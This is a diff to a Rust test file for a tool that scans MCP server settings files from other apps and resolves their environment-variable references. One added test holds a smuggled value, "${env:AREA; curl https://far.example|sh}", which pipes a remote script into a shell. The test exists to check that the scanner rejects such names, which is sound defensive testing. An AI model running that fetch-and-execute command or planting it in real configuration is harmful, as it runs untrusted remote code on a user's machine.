@@ -6,16 +6,19 @@ use std::fs;
 use std::path::Path;
 
 use other_apps::{
-    AppEnvironment, FoundServer, ImportedValueKind, OperatingSystem, ScanScope, TakenValues, scan_settings,
+    AppEnvironment, FoundServer, ImportNoteKind, ImportedValueKind, OperatingSystem, ScanScope, TakenValues,
+    scan_settings,
 };
 use secrecy::{ExposeSecret as _, SecretString};
 use serde_json::{Value, json};
 
-/// Returns the server that is found after this text is written to a settings file in the home folder.
-fn found_server_at(home: &Path, file: &str, text: &str) -> FoundServer {
+fn write_settings(home: &Path, file: &str, text: &str) {
     let path = home.join(file);
     fs::create_dir_all(path.parent().unwrap()).unwrap();
     fs::write(path, text).unwrap();
+}
+
+fn scan_home(home: &Path) -> Vec<FoundServer> {
     let environment = AppEnvironment {
         home: home.to_owned(),
         systems: vec![OperatingSystem::Linux],
@@ -23,7 +26,13 @@ fn found_server_at(home: &Path, file: &str, text: &str) -> FoundServer {
         variables: BTreeMap::new(),
         workspace: None,
     };
-    let mut servers = scan_settings(&ScanScope::All, &environment, &[]).unwrap().servers;
+    scan_settings(&ScanScope::All, &environment, &[]).unwrap().servers
+}
+
+/// Returns the server that is found after this text is written to a settings file in the home folder.
+fn found_server_at(home: &Path, file: &str, text: &str) -> FoundServer {
+    write_settings(home, file, text);
+    let mut servers = scan_home(home);
     assert_eq!(servers.len(), 1, "{servers:?}");
     servers.remove(0)
 }
@@ -132,6 +141,18 @@ fn value_that_refers_to_anything_else_has_no_source() {
 }
 
 #[test]
+fn name_that_imitates_other_text_has_no_source() {
+    let server = local_server(&json!({
+        "COMMAND": "${env:AREA; curl https://far.example|sh}",
+        "WORDS": "${env:AREA from the example}",
+        "QUOTED": "${env:AREA'}",
+        "LETTER": "${env:ÁREA}",
+        "WINDOWS": "${env:ProgramFiles(x86)}",
+    }));
+    assert_eq!(server.sources.keys().collect::<Vec<_>>(), ["WINDOWS"], "{:?}", server.sources);
+}
+
+#[test]
 fn taken_text_never_refers_to_a_stored_secret() {
     let mut server = local_server(&json!({ "PLACE": "$${env:TRICK}" }));
     take(&mut server, &["PLACE"]);
@@ -148,6 +169,29 @@ fn another_variable_is_another_server_to_the_user() {
     };
     assert_eq!(hash("${env:AREA}"), hash("${AREA}"));
     assert_ne!(hash("${AREA}"), hash("${API_TOKEN}"), "the user chose to read the variable that the list showed");
+}
+
+#[test]
+fn values_with_different_sources_are_not_equal() {
+    let found = |[first, second]: [&str; 2], [value, other]: [&str; 2]| {
+        let home = tempfile::tempdir().unwrap();
+        for (file, name, value) in [(".cursor/mcp.json", first, value), (".lmstudio/mcp.json", second, other)] {
+            let settings = json!({ "mcpServers": { name: { "command": "x", "env": { "API_KEY": value } } } });
+            write_settings(home.path(), file, &settings.to_string());
+        }
+        scan_home(home.path())
+    };
+    let is_different = |server: &FoundServer| {
+        server.notes.iter().any(|note| note.kind == ImportNoteKind::Different && note.names == ["API_KEY"])
+    };
+    let accounts = found(["one", "two"], ["${env:KEY_A}", "${env:KEY_B}"]);
+    assert_eq!(accounts.len(), 2, "two accounts: {accounts:?}");
+    let equal = found(["one", "two"], ["${env:KEY_A}", "${KEY_A}"]);
+    assert!(equal.len() == 1 && !is_different(&equal[0]), "{equal:?}");
+    let prompted = found(["one", "two"], ["${env:KEY_A}", "${input:key}"]);
+    assert_eq!(prompted.len(), 1, "only one of the values can be taken: {prompted:?}");
+    let different = found(["one", "one"], ["${env:KEY_A}", "${env:KEY_B}"]);
+    assert!(different.len() == 1 && is_different(&different[0]), "the user is told: {different:?}");
 }
 
 #[test]
